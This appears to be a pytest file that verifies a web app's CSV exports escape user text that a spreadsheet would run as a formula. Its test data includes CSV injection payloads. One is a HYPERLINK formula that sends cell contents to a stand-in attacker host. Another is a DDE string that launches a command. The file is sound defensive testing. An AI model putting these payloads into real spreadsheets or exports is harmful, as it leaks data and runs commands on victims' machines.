"""Every CSV download of the site, with user text that a spreadsheet would run as a formula: no cell may start
like a formula (enable.csvexport), whichever export wrote it."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enable import csvexport
from enable.auth.models import Role, User
from enable.extensions import db
from enable.playbooks.links import check_links
from enable.reports.registry import REPORTS
from enable.search.models import SearchLog
from enable.usage import UsageKind, record_usage
from tests.playbooks.factories import make_link_asset, make_playbook

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?%?\Z")
_CSV_LINK = re.compile(r'href="([^"]*format=csv[^"]*)"')


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.request.path
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _export_urls(app, client) -> list[str]:
    """Every CSV export: the routes ending in .csv, and each table of each report (the page's download links)."""
    urls = [rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv") and not rule.arguments]
    for report in REPORTS:
        with app.test_request_context():
            from flask import url_for

            page = url_for(report.endpoint, start="2020-01-01", end="2030-12-31")
        html = client.get(page).get_data(as_text=True)
        found = [link.replace("&amp;", "&") for link in _CSV_LINK.findall(html)]
        assert found, f"{page} offers no CSV download"
        urls += found
    return urls


@pytest.fixture
def hostile_content(app, users) -> None:
    """Stale playbooks, a broken link, searches and views, all titled or worded like formulas."""
    long_ago = datetime(2020, 1, 6, tzinfo=UTC)
    with app.app_context():
        lead = db.session.get(User, users[Role.ENABLEMENT])
        for n, text in enumerate(HOSTILE):
            playbook = make_playbook(title=text, body="[gone](/playbooks/999999)", now=long_ago, slug=f"hostile-{n}")
            record_usage(lead, UsageKind.VIEW, "playbook", playbook.id).created_at = datetime(2024, 3, 1, tzinfo=UTC)
            db.session.add(SearchLog(user_id=lead.id, query=text, filters={}, result_count=0,
                                     created_at=datetime(2024, 3, 10, tzinfo=UTC)))
        make_link_asset("https://example.com/-1", lead, title=HOSTILE[0], now=long_ago)
        check_links(datetime.now(UTC), external=False)
        db.session.commit()


def test_no_csv_export_writes_a_cell_that_starts_like_a_formula(app, login, hostile_content):
    client = login(Role.ADMIN)
    seen: set[str] = set()
    for url in _export_urls(app, client):
        for cell in _cells(client.get(url)):
            assert not (cell.startswith(csvexport.FORMULA_START) and not _NUMBER.match(cell)), (url, cell)
            seen.add(cell)
    # the hostile text did reach the exports (stale content, broken links, usage, search gaps), made inert
    assert {"'" + text for text in HOSTILE if not text[0].isspace()} <= seen  # titles are stored stripped


@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.floats(allow_nan=False)), max_size=6))
def test_csv_cells_never_start_like_a_formula_and_keep_their_text(cells):
    text = csvexport.to_csv(["h"] * len(cells), [cells])
    row = next(r for n, r in enumerate(csv.reader(io.StringIO(text, newline=""))) if n == 1) if cells else []
    for written, cell in zip(row, cells, strict=True):
        if isinstance(cell, str):
            assert not written.startswith(csvexport.FORMULA_START)
            assert written in (cell, "'" + cell)
        else:
            assert written == str(cell)


def test_numeric_columns_keep_their_plain_numbers_only():
    text = csvexport.to_csv(["n", "t"], [["-3.5", "-3.5"], ["-1+1", "x"]], numeric=[0])
    assert text.splitlines()[1:] == ["-3.5,'-3.5", "'-1+1,x"]
